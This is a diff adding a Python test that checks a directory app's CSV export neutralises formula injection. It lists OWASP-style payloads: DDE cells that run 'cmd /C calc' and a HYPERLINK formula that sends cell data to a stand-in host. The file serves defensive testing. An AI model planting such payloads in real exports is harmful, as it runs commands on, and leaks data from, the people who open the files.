@@ -6,6 +6,8 @@ The database is shared by the whole run: every test here leaves the demo directo
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 from collections.abc import Iterator
@@ -226,6 +228,42 @@ def test_formula_cells_are_guarded_on_export_and_read_back(restore: None) -> Non
         exported = directory_io.export_csv(session)
     assert "'=Org Formula,'@Servicio" in exported and "'=1+1" in exported
     assert dry_run(exported).counts["changed"] == 0
+
+
+#: OWASP's CSV injection payloads: a cell starting with = + - @, a tab or a carriage return.
+INJECTIONS = (
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '+HYPERLINK("http://example.invalid/?x="&A1,"Click")',
+    "=1+1",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+)
+
+
+def test_every_csv_injection_payload_is_neutralised_on_export(restore: None) -> None:
+    apply(HEADER + "".join(f"Org Payloads,Payload {i},health,cr-upala\n" for i in range(7)))
+    with db.transaction() as session:
+        for i, payload in enumerate(INJECTIONS):
+            service = session.scalar(select(Service).where(Service.name == f"Payload {i}"))
+            assert service is not None
+            service.description = payload
+        session.flush()
+        exported = directory_io.export_csv(session)
+    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
+    descriptions = {row["service"]: row["description"] for row in rows}
+    for i, payload in enumerate(INJECTIONS):
+        assert descriptions[f"Payload {i}"] == "'" + payload
+    for row in rows:  # phones (+506...) and every other column: no live formula anywhere
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    # Read back without the quote; only the leading tab and CR go, as the importer trims text.
+    changed = {r.name: r.changes for r in dry_run(exported).rows if r.outcome != "unchanged"}
+    assert changed == {
+        "Org Payloads / Payload 5": {"description": ("\t=1", "=1")},
+        "Org Payloads / Payload 6": {"description": ("\r=1", "=1")},
+    }
 
 
 @pytest.mark.parametrize(
